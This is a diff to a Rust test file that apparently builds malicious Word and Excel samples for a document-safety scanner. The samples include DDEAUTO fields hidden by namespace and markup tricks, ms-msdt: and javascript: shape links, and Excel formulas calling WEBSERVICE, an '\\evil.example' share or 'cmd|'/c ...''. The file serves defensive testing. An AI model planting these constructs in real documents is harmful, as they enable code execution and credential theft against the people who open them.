@@ -141,6 +141,44 @@ pub(crate) fn all() -> Vec<(String, Vec<u8>, bool)> {
         let short = format!("<w:p><w:fldSimple w:instr=\" {code} {harm}\"><w:r/></w:fldSimple></w:p>");
         add(&format!("short field {code}"), word(&short, &[], &[]), false);
     }
+    // What Word passes over says nothing of what it reads, and no part of a code is passed over here.
+    let other = "xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:x=\"urn:nobody\" mc:Ignorable=\"x\"";
+    let run = |inside: &str| format!("<w:r>{inside}</w:r>");
+    let sign = |step: &str| run(&format!("<w:fldChar w:fldCharType=\"{step}\"/>"));
+    let code = |code: &str| run(&format!("<w:instrText>{code}</w:instrText>"));
+    let dde = format!("DDEAUTO {harm}");
+    for (name, inside) in [
+        ("a code before it of another space", run("<x:instrText>PAGE </x:instrText>") + &code(&dde)),
+        ("a sign of another space", run("<x:fldChar x:fldCharType=\"separate\"/>") + &code(&dde)),
+        (
+            "a sign's other attribute",
+            run("<w:fldChar x:fldCharType=\"separate\" w:fldCharType=\"x\"/>") + &code(&dde),
+        ),
+        ("a name before it", code("PAGE ") + &code(&dde)),
+        ("a text before it", code("TITLE ") + &code(&dde)),
+        ("its letters as text", run("<w:t>DDEAUTO </w:t>") + &code(harm)),
+        ("a deleted name before it", run("<w:delInstrText>TITLE </w:delInstrText>") + &code(&dde)),
+        (
+            "one of alternatives",
+            format!(
+                "<mc:AlternateContent><mc:Choice Requires=\"x\">{}</mc:Choice></mc:AlternateContent>{}",
+                code("TITLE "),
+                code(harm)
+            ),
+        ),
+        ("a link with another place", code(&format!("HYPERLINK \\l \"a\" \"\\\\{harm}\\x.exe\""))),
+    ] {
+        let field = sign("begin") + &inside + &sign("separate") + &run("<w:t>1</w:t>") + &sign("end");
+        add(&format!("field: {name}"), word(&format!("<w:p {other}>{field}</w:p>"), &[], &[]), false);
+    }
+    for attributes in [format!("x:instr=\"PAGE\" w:instr=\"{dde}\""), format!("w:instr=\"PAGE {dde}\"")] {
+        let body = format!("<w:p {other}><w:fldSimple {attributes}><w:r/></w:fldSimple></w:p>");
+        add(&format!("short field: {attributes}"), word(&body, &[], &[]), false);
+    }
+    for address in ["//", "\\", "C:\\", "ms-msdt:/id ", "javascript:", "mk:", "x/"] {
+        let body = format!("<w:p><w:r><w:pict><v:shape href=\"{address}{harm}\"/></w:pict></w:r></w:p>");
+        add(&format!("a shape's address: {address}"), word(&body, &[], &[]), false);
+    }
     let quoted = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>".repeat(2)
         + &format!(
             "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText> {harm}</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
@@ -151,6 +189,11 @@ pub(crate) fn all() -> Vec<(String, Vec<u8>, bool)> {
         format!("[1]{harm}!A1"),
         format!("WEBSERVICE(\"{harm}\")"),
         format!("CALL(\"{harm}\")"),
+        format!("'\\\\evil.example\\{harm}\\[a.xlsx]S'!A1"),
+        format!("'http://{harm}/[a.xlsx]S'!A1"),
+        format!("_xlfn.WEBSERVICE (\"{harm}\")"),
+        format!("IF('a\"b'!A1,cmd|'/c {harm}'!A0,\"x\")"),
+        format!("HYPERLINK(\"\\\"&amp;\"\\{harm}\")"),
     ] {
         let formula = formula.replace('"', "&quot;");
         add(
